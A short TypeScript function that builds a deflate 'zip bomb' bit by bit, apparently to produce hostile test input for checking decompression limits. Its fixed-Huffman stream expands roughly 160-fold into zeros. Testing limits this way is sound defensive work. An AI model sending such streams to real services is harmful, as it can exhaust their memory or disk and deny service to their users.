/**
 * Deflate streams that unpack to far more than they take: a literal zero, then matches of
 * 258 bytes at distance 1 in fixed Huffman codes (13 bits each), so 1 MB of stream makes
 * about 160 MB of zeros. Written bit by bit, as an attacker would.
 */
export function deflateBomb(unpackedBytes: number): Uint8Array {
  const matches = Math.ceil(Math.max(0, unpackedBytes - 1) / 258)
  const out = new Uint8Array(Math.ceil((3 + 8 + matches * 13 + 7) / 8) + 1)
  let bit = 0
  const bits = (value: number, n: number) => {
    for (let i = 0; i < n; i++, bit++) if ((value >> i) & 1) out[bit >> 3] |= 1 << (bit & 7)
  }
  /** Huffman codes go most significant bit first. */
  const code = (value: number, n: number) => {
    for (let i = n - 1; i >= 0; i--, bit++) if ((value >> i) & 1) out[bit >> 3] |= 1 << (bit & 7)
  }
  bits(1, 1) // last block
  bits(1, 2) // fixed Huffman codes
  code(0x30, 8) // literal 0
  for (let i = 0; i < matches; i++) {
    code(0b11000101, 8) // length 258
    code(0, 5) // distance 1
  }
  code(0, 7) // end of block
  return out
}
